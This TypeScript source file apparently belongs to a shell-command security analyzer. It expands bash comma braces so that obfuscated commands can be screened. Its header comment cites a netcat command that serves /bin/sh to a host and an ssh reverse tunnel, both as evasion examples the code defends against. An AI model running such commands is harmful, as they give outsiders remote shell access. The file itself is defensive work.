// Why: bash expands `{a,b,c}` in a word into several words before it runs anything, and
// tree-sitter-bash has no notion of it (it reads a leading `{` as a compound statement and then
// reports a syntax error). Threat it stops: `{ssh,-R,9000:localhost:22,u@h}` or `{nc,-e,/bin/sh,h,4444}`
// passing as one unknown word. `braceExpand` returns the text with each unquoted comma brace
// expanded the way bash does (preamble + each alternative + postscript), or null when there is
// none; the analyzer then screens the expanded text as one more layer. Sequence forms
// (`{1..254}`) are left alone: rules read them as written and they can expand to thousands of words.

/** Most words one brace word may expand to; beyond it the word is left as written. */
const MAX_WORDS = 64;
const META = new Set([' ', '\t', '\n', '|', '&', ';', '(', ')', '<', '>']);

/** Expands every unquoted comma brace in `text`; null when nothing changes. */
export function braceExpand(text: string): string | null {
  let out = '';
  let changed = false;
  let i = 0;
  while (i < text.length) {
    if (META.has(text[i]!)) { out += text[i++]; continue; }
    const end = wordEnd(text, i);
    const word = text.slice(i, end);
    const words = word.includes('{') && word.includes(',') ? expandWord(word, 0) : null;
    if (words && words.length > 1 && words.length <= MAX_WORDS) { out += words.join(' '); changed = true; } else out += word;
    i = end;
  }
  return changed ? out : null;
}

/** End of the shell word starting at `i` (quotes, `$(…)` and `${…}` kept inside the word). */
function wordEnd(t: string, i: number): number {
  while (i < t.length && !META.has(t[i]!)) i = skipQuoted(t, i) ?? i + 1;
  return i;
}

/** When `t[i]` opens a quoted or nested part (`'…'`, `"…"`, `` `…` ``, `${…}`, `$(…)`, `\x`), the index after it. */
function skipQuoted(t: string, i: number): number | null {
  const c = t[i]!;
  if (c === '\\') return i + 2;
  if (c === "'" || c === '"' || c === '`') {
    let j = i + 1;
    while (j < t.length && t[j] !== c) j += c !== "'" && t[j] === '\\' ? 2 : 1;
    return j + 1;
  }
  if (c === '$' && (t[i + 1] === '{' || t[i + 1] === '(')) {
    const open = t[i + 1]!;
    const close = open === '{' ? '}' : ')';
    let depth = 0;
    for (let j = i + 1; j < t.length; j++) {
      const ch = t[j]!;
      if (ch === '\\' || ch === "'" || ch === '"' || ch === '`') { j = skipQuoted(t, j)! - 1; continue; }
      if (ch === open) depth++;
      else if (t[j] === close && --depth === 0) return j + 1;
    }
    return t.length;
  }
  return null;
}

/** Expands the first comma brace of `word` (then the results, recursively); null when it has none. */
function expandWord(word: string, depth: number): string[] | null {
  if (depth > 8) return null;
  for (let i = 0; i < word.length; i++) {
    const q = skipQuoted(word, i);
    if (q !== null) { i = q - 1; continue; }
    if (word[i] !== '{') continue;
    const alts = alternatives(word, i);
    if (!alts) continue;
    const pre = word.slice(0, i);
    const post = word.slice(alts.end + 1);
    const out: string[] = [];
    for (const a of alts.parts) {
      const w = pre + a + post;
      out.push(...(expandWord(w, depth + 1) ?? [w]));
      if (out.length > MAX_WORDS) return out;
    }
    return out;
  }
  return null;
}

/** The top-level comma-separated parts of the brace opening at `open`, or null if it is not one. */
function alternatives(w: string, open: number): { parts: string[]; end: number } | null {
  const parts: string[] = [];
  let depth = 0;
  let from = open + 1;
  for (let i = open + 1; i < w.length; i++) {
    const q = skipQuoted(w, i);
    if (q !== null) { i = q - 1; continue; }
    const c = w[i];
    if (c === '{') depth++;
    else if (c === '}' && depth > 0) depth--;
    else if (c === ',' && depth === 0) { parts.push(w.slice(from, i)); from = i + 1; }
    else if (c === '}') {
      if (parts.length === 0) return null;
      parts.push(w.slice(from, i));
      return { parts, end: i };
    }
  }
  return null;
}
